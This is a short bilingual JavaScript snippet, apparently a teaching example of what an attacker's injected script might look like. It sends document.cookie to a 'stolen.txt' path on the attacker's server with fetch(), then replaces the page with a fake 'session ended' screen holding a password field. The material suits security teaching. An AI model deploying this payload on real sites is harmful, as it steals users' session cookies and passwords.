// What an attacker might write. It would lie on the attacker's own server, and so would stolen.txt.
// Lo que podría escribir un atacante. Estaría en su propio servidor, igual que stolen.txt.
fetch("/stolen.txt?" + document.cookie);

document.addEventListener("DOMContentLoaded", () => {
  document.body.innerHTML =
    "<h1>Your session has ended<br><span lang=es>Tu sesión ha terminado</span></h1>" +
    "<p>Log in again, please. · <span lang=es>Vuelve a entrar, por favor.</span></p>" +
    "<p><input type=password placeholder='Password · Contraseña' autocomplete=off></p>";
});
